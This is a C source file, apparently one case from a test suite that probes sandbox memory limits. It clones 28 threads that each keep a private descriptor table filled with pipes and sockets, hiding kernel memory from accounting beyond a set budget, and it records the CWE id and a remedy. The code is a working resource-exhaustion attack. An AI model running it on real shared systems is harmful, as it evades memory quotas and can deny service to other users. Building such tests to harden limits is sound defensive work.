// SPDX-License-Identifier: MIT
/*
 * tables-of-tasks.c - a thread by clone(2) that shares all but its table of descriptors.
 *
 * Goal:  more memory than the budget.
 * Means: CLONE_THREAD without CLONE_FILES. RLIMIT_NOFILE is each table's, and /proc/PID/fd shows that
 *        of the first thread: 28 others have 16 full pipes and 7 pairs of sockets each, which
 *        nobody sees, beside a heap within the budget.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"
#include "attacks/memory-bomb/tables.h"

#include <fcntl.h>
#include <sched.h>
#include <string.h>
#include <unistd.h>

enum { TASKS = 28, STACK = 16 << 10, HEAP_MIB = 248 };
#define THREAD (CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)

static char block[64 << 10], stacks[TASKS][STACK] __attribute__((aligned(16)));

/* Without a library's help: this task has the thread-local memory of the one that made it. */
static int fill(void *unused)
{
	(void)unused;
	fill_table(block, sizeof(block));
	sleep(5);
	return 0;
}

static enum claim run(const struct brief *b)
{
	memset(block, 'x', sizeof(block));
	attempting(b);
	for (int i = 0; i < TASKS; i++)
		if (clone(fill, stacks[i] + STACK, THREAD, NULL) < 0)
			return denied("clone");
	return take_heap(HEAP_MIB << 20) ? hold() : denied("malloc");
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "clone(2): threads with tables of descriptors of their own, full of pipes "
		 "and sockets; and a heap",
	.oracle = "usage:memory",
	.threshold = 305 << 20, /* the heap is within the budget; the tables are 100 MiB above it */
	.attack_id = "T1499.001, CWE-770",
	.remedy = "CLONE_THREAD with CLONE_FILES only, as every library has it; a memory cgroup",
	.refs = (const char *const[]){ "clone(2)", NULL },
	.run = run,
};
